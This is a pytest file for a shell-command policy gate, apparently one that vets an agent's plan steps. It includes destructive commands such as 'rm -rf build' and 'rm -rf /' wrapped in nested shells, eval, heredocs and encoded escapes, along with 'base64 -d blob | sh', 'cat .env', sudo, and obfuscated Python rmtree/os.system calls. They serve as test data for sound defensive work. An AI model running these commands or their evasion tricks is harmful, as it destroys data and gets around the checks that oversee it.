"""The deterministic policy engine: its contract, how it reads the shell, and project policies.

The breadth of attacks lives in the corpus (test_policy_corpus.py); these tests pin down the
behaviours a reader needs to trust the gate: what it sees through, how it follows ``cd`` and
scripts, and what a project's ``.iter/policy.yaml`` may and may not change.
"""

from __future__ import annotations

import hashlib
import random
from pathlib import Path

import pytest

from models.plan import CommandStep, FileStep, Step, VerifyStep
from models.request import StepResult
from models.review import Finding
from models.verification import untested_change
from policy import Policy, evaluate_steps, load_policy, network_steps
from policy import config as config_module
from policy.commands import analyze
from policy.digests import reviewed_digests
from policy.parsers.python import read_python
from policy.parsers.shell import parse


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    for rel, text in {"src/app.py": "print(1)\n", "README.md": "# r\n", "build/.keep": ""}.items():
        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / rel).write_text(text)
    return tmp_path


def cmd(command: str, step_id: str = "s1", timeout_s: int | None = None) -> CommandStep:
    return CommandStep(id=step_id, type="command", command=command, timeout_s=timeout_s)


def points(command: str, ws: Path, policy: Policy | None = None) -> set[int]:
    return {f.point for f in evaluate_steps([cmd(command)], ws, policy or Policy(), require_verify=False)}


def write_policy(ws: Path, text: str) -> None:
    (ws / ".iter").mkdir(exist_ok=True)
    (ws / ".iter" / "policy.yaml").write_text(text)


# ---- the contract ----------------------------------------------------------------------------------
def test_no_steps_and_no_findings_means_allowed(ws: Path) -> None:
    assert evaluate_steps([], ws, Policy(), require_verify=False) == []
    assert evaluate_steps([cmd("pytest -q")], ws, Policy(), require_verify=False) == []


def test_finding_names_point_step_and_a_one_line_reason(ws: Path) -> None:
    verify = VerifyStep(id="v", type="verify", command="pytest")
    steps: list[Step] = [cmd("ls", "a"), cmd("rm -rf build\n", "b"), verify]
    findings = evaluate_steps(steps, ws, Policy())
    assert findings == [
        Finding(
            point=2, step_id="b", verdict="hold",
            reason="`rm -rf build` deletes recursively and without asking (rm -rf)",
        )
    ]
    assert "point 2 (no destructive operations), step b: held: `rm -rf build`" in findings[0].line()


def test_a_plan_needs_a_verify_step_only_when_asked(ws: Path) -> None:
    steps: list[Step] = [cmd("ls", "s1"), cmd("pwd", "s2")]
    assert [(f.point, f.step_id) for f in evaluate_steps(steps, ws, Policy())] == [(8, "s2")]
    assert evaluate_steps(steps, ws, Policy(), require_verify=False) == []


def test_timeouts_above_the_cap_are_blocked_and_the_cap_is_the_projects(ws: Path) -> None:
    assert {f.point for f in evaluate_steps([cmd("make", timeout_s=2000)], ws, Policy(), False)} == {7}
    assert evaluate_steps([cmd("make", timeout_s=2000)], ws, Policy(max_timeout_s=3000), False) == []


# ---- reading the shell -----------------------------------------------------------------------------
def test_quoting_and_escapes_are_undone_as_bash_does() -> None:
    for spelling in ("rm", "'rm'", '"rm"', "r''m", "\\rm", "$'\\x72\\x6d'", "r\\\nm"):
        words = parse(f"{spelling} -rf x").commands[0].words
        assert [w.text for w in words] == ["rm", "-rf", "x"], spelling


@pytest.mark.parametrize(
    "command",
    [
        "sudo -u root env FOO=1 timeout 5 nice -n 3 nohup rm -rf build",
        "bash -c 'rm -rf build'", "sh -ec \"rm -rf build\"", "bash -c -- 'rm -rf build'",
        "bash -lc \"bash -c 'rm -rf build'\"", "eval 'rm -rf build'", "echo $(rm -rf build)", "echo `rm -rf build`",
        "echo ${X:-$(rm -rf build)}", "ls | xargs rm -rf", "find . -name x -exec rm -rf {} \\;",
        "env -S 'rm -rf build'", "bash <<'EOF'\nrm -rf build\nEOF", "bash <<< 'rm -rf build'",
        "echo 'rm -rf build' | sh", "alias x='rm -rf build'", "trap 'rm -rf build' EXIT", "a=(1 $(rm -rf build))",
        "command rm -rf build", "exec rm -rf build", "time rm -rf build", "if true; then rm -rf build; fi",
        "python3 -c \"import os; os.system('rm -rf build')\"", "x=1; (cd src && rm -rf build) &",
        "watch -n 5 rm -rf build", "cat > x.sh <<'EOF'\nrm -rf build\nEOF\nsh x.sh",
    ],
)
def test_rm_rf_is_seen_through_wrappers_and_nested_shells(command: str, ws: Path) -> None:
    assert 2 in points(command, ws)


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("echo 'unbalanced", "could not parse"),
        ("cat <<EOF\nno end", "could not parse"),
        ("echo $(ls", "could not parse"),
        ("if true; then ls", "could not parse"),
        ("$CMD -rf /", "only known at run time"),
        ("{rm,-rf,/}", "could not parse"),  # tree-sitter-bash reads no brace expansion in a command name
        ("bash -c \"$PAYLOAD\"", "only known at run time"),
        ("base64 -d blob | sh", "cannot be checked"),
        ("bash ./generated.sh", "cannot read"),
    ],
)
def test_what_cannot_be_read_is_blocked(command: str, reason: str, ws: Path) -> None:
    findings = evaluate_steps([cmd(command)], ws, Policy(), require_verify=False)
    assert any(f.point == 7 and reason in f.reason for f in findings), [f.line() for f in findings]


def test_constructs_real_scripts_use_still_parse() -> None:
    for src in ("[[ -n $x && $a < $b ]] && echo", "echo $((1 + 2))", "case $x in (a|b) echo;; *) ;; esac",
                "arr=(a \"b c\"); declare -A m=()", "for ((i=0; i<3; i++)); do :; done", "f() { local x=1; }",
                "mapfile -t t < <(ls)", "while read -r l; do :; done < f", "time -p make", "! grep -q x f"):
        parse(src)
    script = parse("a 2>&1 | b")
    shape = [(c.words[0].text, c.pipe_out, c.pipe_in) for c in script.commands]
    assert shape == [("a", True, False), ("b", False, True)]
    assert [(r.fd, r.op, r.target.text if r.target else "") for r in script.commands[0].redirects] == [("2", ">&", "1")]


# ---- following cd and scripts ----------------------------------------------------------------------
@pytest.mark.parametrize(
    ("command", "blocked"),
    [
        ("mkdir -p build && cd build && cmake .. && make", False),
        ("cd src && cat ../README.md", False),
        ("cd build; cmake ..", True),  # if the cd fails, `..` is the workspace's parent
        ("(cd build && ls) && cat ../x", True),  # the cd does not outlive its subshell
        ("cd build | cat ../x", True),  # nor a pipeline
        ("cd src && cd .. && cd ..", True),
        ("cd \"$DIR\" && ls", True),
    ],
)
def test_cd_is_followed_through_the_command_line(command: str, blocked: bool, ws: Path) -> None:
    assert (1 in points(command, ws)) is blocked


def test_a_script_written_by_an_earlier_step_is_checked_when_it_runs(ws: Path) -> None:
    steps: list[Step] = [
        FileStep(id="w", type="file", path="scripts/clean.sh", action="create", content="#!/bin/sh\nrm -rf /\n"),
        cmd("sh scripts/clean.sh", "run"),
    ]
    findings = evaluate_steps(steps, ws, Policy(), require_verify=False)
    assert {(f.point, f.step_id) for f in findings} >= {(2, "run")}
    assert all(f.step_id == "run" for f in findings)


def test_a_script_may_cd_to_its_own_directory(ws: Path) -> None:
    (ws / "scripts").mkdir()
    (ws / "scripts" / "ci.sh").write_text('#!/bin/bash\nset -euo pipefail\ncd "$(dirname "$0")/.."\npytest -q\n')
    (ws / "scripts" / "up.sh").write_text('#!/bin/bash\ncd "$(dirname "$0")/../.."\nls\n')
    assert points("bash scripts/ci.sh", ws) == set()
    assert points("./scripts/up.sh", ws) == {1}


def test_npm_scripts_are_checked_as_the_commands_they_run(ws: Path) -> None:
    (ws / "package.json").write_text('{"scripts": {"test": "jest", "clean": "rm -rf dist", "pretest": "tsc"}}')
    assert points("npm test", ws) == set()
    assert points("npm run clean", ws) == {2}


def test_a_symlink_that_leaves_the_workspace_is_an_escape(ws: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
    outside = tmp_path_factory.mktemp("outside")
    (ws / "data").symlink_to(outside)
    write = FileStep(id="s1", type="file", path="data/x.txt", action="create", content="x\n")
    assert {f.point for f in evaluate_steps([write], ws, Policy(), require_verify=False)} == {1}
    assert points("cat data/x.txt", ws) == {1}
    assert points("echo x > data/y.txt", ws) == {1}


# ---- project policy --------------------------------------------------------------------------------
def test_without_a_policy_file_the_defaults_apply(ws: Path) -> None:
    assert load_policy(ws) == Policy()


def test_deny_rules_match_the_command_behind_its_wrappers(ws: Path) -> None:
    write_policy(ws, "deny:\n  - {pattern: '^terraform (apply|destroy)', point: 2, reason: real infrastructure}\n")
    policy = load_policy(ws)
    for command in ("terraform apply", "env TF_LOG=1 terraform apply -auto-approve", "bash -c 'terraform destroy'"):
        findings = evaluate_steps([cmd(command)], ws, policy, require_verify=False)
        assert [(f.point, f.reason) for f in findings] == [(2, "real infrastructure")], command
    assert points("terraform plan", ws, policy) == set()


def test_allow_rules_lift_network_and_say_which_steps_need_it(ws: Path) -> None:
    write_policy(ws, "allow:\n  - pattern: '^pip install (-r requirements\\.txt|requests)$'\n    network: true\n")
    policy = load_policy(ws)
    steps: list[Step] = [cmd("pip install requests", "deps"), cmd("pip install flask", "other"), cmd("pytest", "t")]
    findings = evaluate_steps(steps, ws, policy, require_verify=False)
    assert [(f.point, f.step_id) for f in findings] == [(5, "other")]
    assert network_steps(steps, policy) == {"deps"}
    assert network_steps(steps, Policy()) == set()


def test_allow_rules_never_lift_paths_destruction_secrets_or_privilege(ws: Path) -> None:
    write_policy(ws, "allow:\n  - {pattern: '.*', reason: everything}\n")
    policy = load_policy(ws)
    for command, point in (("cp x /etc/x", 1), ("rm -rf build", 2), ("cat .env", 3), ("sudo ls", 6)):
        assert point in points(command, ws, policy), command
    assert points("curl https://example.com", ws, policy) == set()
    assert points("pip install --index-url https://evil.example/simple x", ws, policy) == set()
    assert points("echo 'x", ws, policy) == {7}, "what cannot be parsed stays blocked"


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("deny: [", "cannot read it as YAML"),
        ("- just a list", "expected a mapping"),
        ("deny:\n  - {pattern: '(', point: 2}\n", "not a valid regular expression"),
        ("deny:\n  - {pattern: x, point: 9}\n", "deny.0.point"),
        ("allow:\n  - {pattern: x, points: [2]}\n", "allow.0.points.0"),
        ("allow:\n  - {pattern: x, points: [4], network: true}\n", "must include 5"),
        ("alow: []\n", "alow"),
        ("max_timeout_s: -1\n", "max_timeout_s"),
    ],
)
def test_a_bad_policy_file_is_one_line_value_error(text: str, message: str, ws: Path) -> None:
    write_policy(ws, text)
    with pytest.raises(ValueError) as err:
        load_policy(ws)
    assert message in str(err.value) and "\n" not in str(err.value)
    assert str(err.value).startswith(".iter/policy.yaml")
    with pytest.raises(ValueError):
        evaluate_steps([cmd("ls")], ws)  # policy None reads the same file


def test_policy_none_reads_the_workspace_policy(ws: Path) -> None:
    write_policy(ws, "max_timeout_s: 60\n")
    assert [f.point for f in evaluate_steps([cmd("make", timeout_s=120)], ws, require_verify=False)] == [7]


# ---- failing closed --------------------------------------------------------------------------------
_FUZZ_ATOMS = ["rm", "-rf", "/", "'", '"', "$(", ")", "`", "${", "}", "{", "(", "<<", "EOF", "\n", "|", "&&", ";",
               "&", ">", "<", "2>&1", "<(", "$'", "\\", "case", "in", "esac", "if", "then", "fi", "while", "do", "done",
               "a=(", "[[", "]]", "((", "$((", "#", " ", " ", "bash", "-c", "eval", "sudo", "f()", ";;", "*", "~", ".."]


def test_random_shell_never_crashes_the_gate(ws: Path) -> None:
    rng = random.Random(7)
    for _ in range(1500):
        src = "".join(rng.choice(_FUZZ_ATOMS) + rng.choice(["", " "]) for _ in range(rng.randint(1, 20)))
        if src.strip():
            findings = evaluate_steps([cmd(src)], ws, Policy(), require_verify=False)
            assert not any("could not check this step" in f.reason for f in findings), src


def test_pathological_input_is_blocked_not_raised(ws: Path) -> None:
    deep = "echo " + "$(" * 500 + "x" + ")" * 500
    findings = evaluate_steps([cmd(deep)], ws, Policy(), False)
    assert {f.point for f in findings} == {7} and any(f.verdict == "block" for f in findings)
    assert any("nested more than 8 levels deep" in f.reason for f in findings)
    assert [p.point for p in analyze("x" * 200_000).problems] == [7]  # a plan step is capped earlier still


def test_the_documented_example_policy_is_valid(ws: Path) -> None:
    doc = config_module.__doc__ or ""
    write_policy(ws, doc.split("```yaml\n", 1)[1].split("```", 1)[0])
    policy = load_policy(ws)
    assert [r.point for r in policy.deny] == [2] and policy.allow[0].network
    assert network_steps([cmd("pip install -r requirements.txt")], policy) == {"s1"}


# ---- issue 12: create is for new files; append creates; the review binds a step to its file ------
def test_create_of_an_existing_file_is_a_finding_and_append_creates(ws: Path) -> None:
    (ws / "mine.txt").write_text("mine\n")
    create = FileStep(id="c", type="file", path="mine.txt", action="create", content="x\n")
    findings = evaluate_steps([create], ws, Policy(), require_verify=False)
    assert [(f.point, f.verdict) for f in findings] == [(8, "block")] and "already exists" in findings[0].reason
    append = FileStep(id="a", type="file", path="PROGRESS.md", action="append", content="done\n")
    assert evaluate_steps([append], ws, Policy(), require_verify=False) == []
    recreate = [FileStep(id="d", type="file", path="mine.txt", action="delete"), create]
    assert evaluate_steps(recreate, ws, Policy(), require_verify=False) == []


def test_the_review_records_the_files_it_saw_for_the_first_step_on_each_path(ws: Path) -> None:
    (ws / "mine.txt").write_text("mine\n")
    steps: list[Step] = [
        FileStep(id="m", type="file", path="mine.txt", action="modify", content="x\n"),
        FileStep(id="m2", type="file", path="mine.txt", action="append", content="y\n"),
        FileStep(id="n", type="file", path="new.txt", action="create", content="z\n"),
        cmd("touch gen.txt", "t"),
        FileStep(id="g", type="file", path="gen.txt", action="modify", content="g\n"),
    ]
    digests = reviewed_digests(steps, ws)
    assert digests == {"m": hashlib.sha256(b"mine\n").hexdigest(), "n": "absent"}


# ---- reading Python: resolution and folding ----------------------------------------------------------
def test_python_calls_resolve_through_aliases_getattr_and_importlib() -> None:
    code = (
        "import importlib, shutil as s\nfrom os import system as run\n"
        "net = importlib.import_module('url' + 'lib.request')\n"
        "getattr(s, 'rm' + 'tree')('build')\nrun(''.join(['ec', 'ho']) + ' hi')\nnet.urlopen('http://x.example')\n"
    )
    facts = read_python(code)
    names = {c.name for c in facts.calls}
    assert {"shutil.rmtree", "os.system", "urllib.request.urlopen"} <= names
    assert facts.commands == ["echo hi"]
    assert facts.unknown == []
    assert read_python("exec(compile(open('x').read(), 'x', 'exec'))").unknown, "exec of a computed string is unknown"
    assert read_python("not python (").error


def test_a_pass_needs_a_check_after_the_last_change() -> None:
    ok = StepResult(step_id="v", run_key="r0-v", kind="verify", ok=True)
    change = StepResult(step_id="s", run_key="r0-s", kind="file", ok=True)
    assert untested_change([change, ok]) == ""
    assert "after step s" in untested_change([ok, change])
    assert untested_change([ok]) == ""
